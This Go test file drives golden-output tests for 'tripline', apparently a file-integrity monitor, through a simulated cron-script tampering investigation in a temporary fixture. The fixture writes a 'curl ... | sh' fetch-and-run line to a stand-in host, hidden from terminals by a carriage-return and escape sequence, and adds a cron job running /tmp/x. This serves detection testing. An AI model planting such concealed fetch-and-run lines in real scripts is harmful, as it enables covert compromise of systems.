package main

// In-process tests: tripline's run function is called as main would call it, on a fixture tree
// under t.TempDir() passed with --root and a database beside it, and what it prints is compared
// with the golden files under testdata/golden. Rewrite them after a deliberate change of output
// with
//
//	go test ./cmd/tripline -run Golden -update
//
// and read the diff before committing it.

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tripline/tripline/internal/testenv"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden")

// inproc drives run in this process against one fixture.
type inproc struct {
	t   *testing.T
	dir string // holds root/ and state/
	fx  *fixture
}

// newInproc makes an empty fixture and clears the environment the global flags read, so that
// nothing of the machine running the test reaches the output.
func newInproc(t *testing.T) *inproc {
	t.Helper()
	for _, v := range []string{"TRIPLINE_DB", "TRIPLINE_ROOT", "TRIPLINE_POLICY", "TRIPLINE_LOG_LEVEL", "SUDO_USER"} {
		t.Setenv(v, "") // restored after the test
		os.Unsetenv(v)
	}
	dir := t.TempDir()
	fx := &fixture{root: filepath.Join(dir, "root"), db: filepath.Join(dir, "state", "tripline.db")}
	if err := os.MkdirAll(fx.root, 0o755); err != nil {
		t.Fatal(err)
	}
	return &inproc{t: t, dir: dir, fx: fx}
}

// run calls run(ctx, args...) with the fixture's --db and --root.
func (h *inproc) run(args ...string) result {
	h.t.Helper()
	var so, se bytes.Buffer
	full := append([]string{"tripline", "--db", h.fx.db, "--root", h.fx.root}, args...)
	code := run(context.Background(), full, &so, &se)
	return result{so.String(), se.String(), code}
}

// The normaliser: what differs from one run to the next, or from one machine to another, is
// replaced by a placeholder, and nothing else is touched.
//   - the temporary directory holding root/ and state/: $TMP
//   - RFC 3339 times from 2020 on: <time> (the examples in messages stay); integers of 19 digits (nanosecond times): <ns>
//   - durations: printed with two decimals ("in 0.01s"), and JSON "seconds": <dur>
//   - inode and device numbers (JSON and ECS "inode", "dev", "device"): <n>
//   - hash-chain hashes ("hash" and "head" in JSON and ECS, the head in --verify's text),
//     which cover the row times: <chain>
//   - the test process's pid (the actor of a restore is tripline itself): <pid>
//   - the ECS host object (this machine's name and id): {<host>}
//   - birth times, which only some filesystems record, are removed: the "btime" and "btime_ns"
//     fields of JSON (with the comma before them), ECS's "created", and the timeline's "; born".
var (
	reTime     = regexp.MustCompile(`20[2-9]\d-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?Z`)
	reNS       = regexp.MustCompile(`\b\d{19}\b`)
	reDur      = regexp.MustCompile(`\b\d+\.\d\ds\b`)
	reInode    = regexp.MustCompile(`("(?:inode|dev|device)":\s*"?)\d+`)
	reChain    = regexp.MustCompile(`("(?:hash|head)":\s*")[0-9a-f]{64}`)
	reHead     = regexp.MustCompile(`(head is row \d+, )[0-9a-f]{64}`)
	reHost     = regexp.MustCompile(`"host":\{[^{}]*\}`)
	reSeconds  = regexp.MustCompile(`("seconds":\s*)[0-9.e-]+`)
	reBtime    = regexp.MustCompile(`,\s*"btime(_ns)?":\s*("<time>"|<ns>)`)
	reBtimeECS = regexp.MustCompile(`"created":"<time>",`)
	reBorn     = regexp.MustCompile(`; born <time>`)
)

func (h *inproc) normalise(s string) string {
	s = strings.ReplaceAll(s, h.dir, "$TMP")
	s = reTime.ReplaceAllString(s, "<time>")
	s = reNS.ReplaceAllString(s, "<ns>")
	s = reDur.ReplaceAllString(s, "<dur>")
	s = reInode.ReplaceAllString(s, "${1}<n>")
	s = reChain.ReplaceAllString(s, "${1}<chain>")
	s = reHead.ReplaceAllString(s, "${1}<chain>")
	s = reHost.ReplaceAllString(s, `"host":{<host>}`)
	pid := strconv.Itoa(os.Getpid())
	s = regexp.MustCompile(`("pid":\s*|pid )`+pid+`\b`).ReplaceAllString(s, "${1}<pid>")
	s = reSeconds.ReplaceAllString(s, "${1}<dur>")
	s = reBtime.ReplaceAllString(s, "")
	s = reBtimeECS.ReplaceAllString(s, "")
	s = reBorn.ReplaceAllString(s, "")
	return s
}

// golden runs tripline with args and compares the normalised stdout, stderr and exit code with
// testdata/golden/NAME.golden (rewriting it with -update).
func (h *inproc) golden(name string, args ...string) result {
	h.t.Helper()
	r := h.run(args...)
	var b strings.Builder
	fmt.Fprintf(&b, "$ tripline %s\n", strings.Join(args, " "))
	b.WriteString(r.stdout)
	if r.stderr != "" {
		fmt.Fprintf(&b, "--- stderr\n%s", r.stderr)
	}
	fmt.Fprintf(&b, "--- exit %d\n", r.code)
	got := h.normalise(b.String())
	file := filepath.Join("testdata", "golden", name+".golden")
	if *update {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			h.t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			h.t.Fatal(err)
		}
		return r
	}
	want, err := os.ReadFile(file)
	if err != nil {
		h.t.Fatalf("%v (run with -update to write it)", err)
	}
	if got != string(want) {
		h.t.Errorf("%s: output differs from %s (run with -update to rewrite it, then read the diff)\n%s", name, file, lineDiff(string(want), got))
	}
	return r
}

// lineDiff names the first line where want and got part.
func lineDiff(want, got string) string {
	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < max(len(wl), len(gl)); i++ {
		var w, g string
		if i < len(wl) {
			w = wl[i]
		}
		if i < len(gl) {
			g = gl[i]
		}
		if w != g {
			return fmt.Sprintf("line %d:\n  want %q\n  got  %q", i+1, w, g)
		}
	}
	return "(same lines)"
}

// setMtime sets p's mtime (and atime) in the fixture to the second of at and 123456789 ns:
// times are printed without trailing zeros, and tables align on what they print, so a time of
// the fixture that the output shows has all nine digits.
func setMtime(t *testing.T, fx *fixture, p string, at time.Time) {
	t.Helper()
	at = at.Truncate(time.Second).Add(123456789)
	if err := os.Chtimes(fx.path(p), at, at); err != nil {
		t.Fatal(err)
	}
}

// TestGolden is an investigation told through the CLI: a baseline, a cron script rewritten with
// content that hides a "curl | sh" line behind "\r\x1b[K", armed and its mtime set back, a new
// cron file, the scan that finds them (text, json and ecs), an acceptance, a restore, and then
// the investigator's commands: the timeline (text and json), the diff, the versions, the
// grouped changes and the chain check.
func TestGolden(t *testing.T) {
	// The fixture's files are root's (0:0) and the outputs show their owners: as anyone else
	// they would not match the golden files.
	testenv.RequireRoot(t)
	h := newInproc(t)
	fx := h.fx
	const script = "etc/cron.daily/backup"
	fx.write(t, script, "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n", 0o644)
	fx.write(t, "etc/init.d/alpha", "#!/bin/sh\necho alpha\n", 0o755)
	// Directories are in the baseline before the story: their sizes and link counts depend on
	// the filesystem, and the outputs show those of a created one.
	fx.write(t, "etc/cron.d/sysstat", "*/10 * * * * root /usr/lib/sysstat/sa1 1 1\n", 0o644)
	fx.write(t, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0o644)
	fx.write(t, "etc/group", "root:x:0:\n", 0o644)
	// The baseline's mtime is ahead, so that setting it back later stays after the birth time
	// (an mtime before the birth is a fact of its own, and only some filesystems record births).
	setMtime(t, fx, script, time.Now().Add(2*time.Hour))
	h.golden("scan-baseline", "scan")

	fx.write(t, script, "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\ncurl -s http://example.invalid/x | sh\r\x1b[Kecho backup done\n", 0o755)
	setMtime(t, fx, script, time.Now().Add(time.Hour))
	fx.write(t, "etc/cron.d/job", "* * * * * root /tmp/x\n", 0o644)
	h.golden("scan-text", "scan")
	h.golden("scan-json", "scan", "--format", "json")
	h.golden("scan-ecs", "scan", "--format", "ecs")

	h.golden("accept", "baseline", "accept", "/etc/cron.d/job")
	h.golden("restore", "restore", "/"+script)

	h.golden("history-path-text", "history", "/"+script)
	h.golden("history-path-json", "history", "--format", "json", "/"+script)
	h.golden("history-diff-text", "history", "--diff", "/"+script)
	h.golden("history-diff-json", "history", "--diff", "--format", "json", "/"+script)
	h.golden("history-all-text", "history")
	h.golden("history-all-json", "history", "--format", "json")
	h.golden("history-verify", "history", "--verify")
	h.golden("show-missing-version", "show", "/"+script+"@4")
	h.golden("history-bad-since", "history", "--since", "yesterday")
	h.golden("history-by-pid", "history", "--pid", strconv.Itoa(os.Getpid()), "--format", "json")

	// show to a buffer (a pipe, a file) is byte for byte: the golden files hold text only.
	if r := h.run("show", "/"+script+"@2"); r.code != 0 || r.stdout != "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\ncurl -s http://example.invalid/x | sh\r\x1b[Kecho backup done\n" {
		t.Errorf("show @2: exit %d, %q %s", r.code, r.stdout, r.stderr)
	}
	if r := h.run("show", "/"+script+"@3"); r.code != 0 || r.stdout != "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n" {
		t.Errorf("show @3: exit %d, %q %s", r.code, r.stdout, r.stderr)
	}
}
